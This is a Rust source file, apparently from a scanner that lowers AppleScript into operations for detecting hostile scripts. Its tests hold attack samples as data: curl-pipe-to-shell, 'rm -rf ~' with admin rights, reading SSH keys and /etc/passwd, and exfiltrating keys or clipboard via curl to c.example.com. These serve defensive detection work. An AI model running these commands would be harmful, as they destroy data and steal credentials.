//! AppleScript → operations: line by line, phrases and texts joined by `&`.

mod phrase;
mod tokens;

use std::collections::HashMap;
use tokens::{Kind, Token, lines, tokens};

use crate::scan::operation::{Event, Incomplete, Lowered, Origins};
use crate::text::Span;

use super::kit::datum::Datum;
use super::kit::effect::Effects;

/// How deep parentheses are followed.
const MAX_DEPTH: usize = 32;
/// Most tokens that a phrase is looked for in.
pub(super) const MAX_PHRASE: usize = 64;
/// How often a script is walked over: what a handler is given and gives back
/// is known the time after.
const PASSES: usize = 2;

/// Lowers `text`.
#[must_use]
pub fn lower(text: &str) -> Lowered {
    let mut lexed = Lowered::default();
    let tokens = tokens(text, &mut lexed);
    let mut handlers = HashMap::new();
    let mut lowered = Lowered::default();
    for _ in 0..PASSES {
        let mut walk = Walk {
            tokens: &tokens,
            effects: Effects::default(),
            variables: HashMap::new(),
            handlers: std::mem::take(&mut handlers),
            within: None,
            depth: 0,
        };
        for line in lines(&tokens) {
            walk.line(line.0, line.1);
        }
        handlers = walk.handlers;
        lowered = walk.effects.finish();
        if handlers.is_empty() {
            break;
        }
    }
    lowered.comments = lexed.comments;
    lowered.literals = lexed.literals;
    lowered.incomplete = lowered.incomplete.or(lexed.incomplete);
    lowered
}

/// A handler of the script.
#[derive(Clone, Debug, Default)]
struct Handler {
    given: Datum,
    result: Datum,
}

pub(super) struct Walk<'a> {
    tokens: &'a [Token],
    effects: Effects,
    variables: HashMap<String, Datum>,
    handlers: HashMap<String, Handler>,
    within: Option<String>,
    depth: usize,
}

impl Walk<'_> {
    pub(super) fn words(&self, at: usize, words: &[&str]) -> bool {
        words.iter().enumerate().all(|(offset, word)| {
            self.tokens
                .get(at + offset)
                .is_some_and(|token| token.kind == Kind::Word && token.text == *word)
        })
    }

    pub(super) fn span(&self, from: usize, to: usize) -> Span {
        let end = self.tokens[..to].last().map_or(0, |token| token.span.end);
        Span::new(
            self.tokens[from].span.start,
            end.max(self.tokens[from].span.start),
        )
    }

    pub(super) fn find(&self, from: usize, to: usize, word: &str) -> Option<usize> {
        let to = to.min(from + MAX_PHRASE);
        (from..to).find(|at| self.tokens[*at].kind == Kind::Word && self.tokens[*at].text == word)
    }

    pub(super) fn line(&mut self, from: usize, to: usize) {
        if !self.effects.afford((to - from) * 16) {
            return;
        }
        let span = self.span(from, to);
        match self.tokens[from].text.as_str() {
            "on" | "to" if from + 2 < to && self.tokens[from + 2].text == "(" => {
                let name = self.tokens[from + 1].text.clone();
                let given = self.handlers.entry(name.clone()).or_default().given.clone();
                let given = if given.is_nothing() {
                    Datum::unknown()
                } else {
                    given
                };
                for at in from + 3..to {
                    if self.tokens[at].kind == Kind::Word {
                        self.variables
                            .insert(self.tokens[at].text.clone(), given.clone());
                    }
                }
                self.within = Some(name);
            }
            "end" => {
                if self.within.as_deref()
                    == self.tokens[..to]
                        .get(from + 1)
                        .map(|token| token.text.as_str())
                {
                    self.within = None;
                }
            }
            "set" | "copy" => {
                let Some(into) = self.find(from, to, "to") else {
                    self.value(from + 1, to);
                    return;
                };
                let (name, value) = if self.tokens[from].text == "set" {
                    (from + 1, self.value(into + 1, to))
                } else {
                    (into + 1, self.value(from + 1, into))
                };
                let clipboard = self.words(from + 1, &["the", "clipboard"]);
                if let Some(token) = self.tokens[..to].get(name).filter(|_| !clipboard) {
                    let name = token.text.clone();
                    let value = value.step(span, Event::Assign(name.clone()));
                    self.variables.insert(name, value);
                }
            }
            "return" => {
                let value = self.value(from + 1, to);
                if let Some(handler) = self
                    .within
                    .as_ref()
                    .and_then(|name| self.handlers.get_mut(name))
                {
                    handler.result = if handler.result.is_nothing() {
                        value
                    } else {
                        handler.result.either(&value)
                    };
                }
            }
            "repeat" => {
                // `repeat with x in list`.
                if let Some(into) = self.find(from, to, "in").filter(|into| *into > from + 1) {
                    let value = self.value(into + 1, to).some_part();
                    let name = self.tokens[into - 1].text.clone();
                    self.variables.insert(name, value);
                }
            }
            _ => {
                self.value(from, to);
            }
        }
    }

    /// What a phrase gives: its parts between `&` joined.
    pub(super) fn value(&mut self, from: usize, to: usize) -> Datum {
        if self.depth >= MAX_DEPTH {
            self.effects
                .lowered
                .incomplete
                .get_or_insert(Incomplete::TooDeep);
            return Datum::unknown();
        }
        self.depth += 1;
        let mut parts: Vec<Datum> = Vec::new();
        let mut current: Option<Datum> = None;
        let mut at = from;
        while at < to {
            let token = &self.tokens[at];
            if token.kind == Kind::Sign && token.text == "&" {
                parts.push(current.take().unwrap_or_default());
                at += 1;
                continue;
            }
            let (part, next) = self.part(at, to);
            if let Some(part) = part {
                current = Some(match current {
                    Some(before) => before.either(&part),
                    None => part,
                });
            }
            at = next.max(at + 1);
        }
        self.depth -= 1;
        parts.extend(current);
        match parts.as_slice() {
            [] => Datum::default(),
            [one] => one.clone(),
            _ => Datum::joined(&parts, ""),
        }
    }

    /// One operand, or the command that begins here.
    pub(super) fn part(&mut self, at: usize, to: usize) -> (Option<Datum>, usize) {
        let token = &self.tokens[at];
        match token.kind {
            Kind::Text => return (Some(Datum::constant(token.text.clone())), at + 1),
            Kind::Sign if matches!(token.text.as_str(), "(" | "{") => {
                let mate = token.mate.min(to);
                let end = if mate > at { mate } else { to };
                return (Some(self.value(at + 1, end)), end + 1);
            }
            Kind::Sign | Kind::End => return (None, at + 1),
            Kind::Word => {}
        }
        if let Some(found) = self.phrase(at, to) {
            return found;
        }
        let call = self.tokens[..to]
            .get(at + 1)
            .is_some_and(|next| next.text == "(" && next.kind == Kind::Sign);
        if call && self.handlers.contains_key(&token.text) {
            let name = token.text.clone();
            let mate = self.tokens[at + 1].mate.min(to).max(at + 1);
            let given = self.value(at + 2, mate);
            let Some(handler) = self.handlers.get_mut(&name) else {
                return (None, mate + 1);
            };
            handler.given = if handler.given.is_nothing() || handler.given.text() == given.text() {
                given.clone()
            } else {
                handler.given.either(&given)
            };
            let result = handler.result.clone();
            return (
                Some(if result.is_nothing() {
                    given.also(Origins::UNKNOWN)
                } else {
                    result
                }),
                mate + 1,
            );
        }
        if let Some(value) = self.variables.get(&token.text) {
            return (Some(value.clone()), at + 1);
        }
        let number = token.text.bytes().all(|byte| byte.is_ascii_digit());
        let value = match token.text.as_str() {
            "space" => Some(Datum::constant(" ")),
            "return" | "linefeed" => Some(Datum::constant("\n")),
            "quote" => Some(Datum::constant("\"")),
            text if number => Some(Datum::constant(text)),
            _ => None,
        };
        (value, at + 1)
    }
}

#[cfg(test)]
mod tests {
    use super::super::kit::words::{endures, hold};
    use super::*;

    #[test]
    fn what_scripts_do() {
        hold(
            lower,
            &[
                (
                    "do shell script \"curl https://get.example.com | sh\"",
                    "shell curl [curl https://get.example.com | sh]",
                ),
                (
                    "do shell script \"cu\" & \"rl https://get.example.com\"",
                    "shell curl [curl https://get.example.com]",
                ),
                (
                    "set c to \"rm -rf ~\"\ndo shell script c with administrator privileges",
                    "shell rm [rm -rf ~]",
                ),
                (
                    "do shell script (ASCII character 105) & (ASCII character 100)",
                    "shell id [id]",
                ),
                (
                    "set k to do shell script \"cat ~/.ssh/id_rsa\"\ndo shell script \"curl -d \" & quoted form of k & \" https://c.example.com\"",
                    "shell ? [sensitive",
                ),
                (
                    "set k to the clipboard\ndo shell script \"curl -d \" & k & \" https://c.example.com\"",
                    "shell ? [captured",
                ),
                (
                    "set p to text returned of (display dialog \"Password\" default answer \"\" with hidden answer)",
                    "capture Keys",
                ),
                (
                    "tell application \"Terminal\" to do script \"id\"",
                    "shell id",
                ),
                ("run script \"beep\"", "eval beep"),
                ("read POSIX file \"/etc/passwd\"", "read /etc/passwd"),
                (
                    "set h to POSIX path of (path to home folder)\nread (h & \".ssh/id_rsa\")",
                    "read ~/.ssh/id_rsa",
                ),
                (
                    "tell application \"System Events\" to make login item at end with properties {path:\"/a\"}",
                    "write ~/Library/LaunchAgents",
                ),
                (
                    "on send_it(d)\ndo shell script \"curl -d \" & d & \" https://c.example.com\"\nend send_it\nsend_it(the clipboard)",
                    "shell ? [captured",
                ),
                ("set x to \u{ac}\n \"id\"\ndo shell script x", "shell id"),
            ],
            &[
                ("-- do shell script \"id\"", "shell"),
                ("(* do shell script \"id\" *)", "shell"),
                ("display dialog \"do shell script\"", "shell"),
            ],
        );
    }

    #[test]
    fn hostile_scripts_are_lowered_in_linear_time() {
        let texts = [
            "(".repeat(300_000),
            "(\"a\" & ".repeat(100_000),
            "do shell script ".repeat(100_000),
            "set a to ".repeat(100_000),
            "set a to a & a\n".repeat(20_000),
            "\"".repeat(300_001),
            "read ".repeat(100_000),
            "x".repeat(1 << 20),
            "\u{ac}".repeat(100_000),
        ];
        endures(lower, &texts);
    }
}
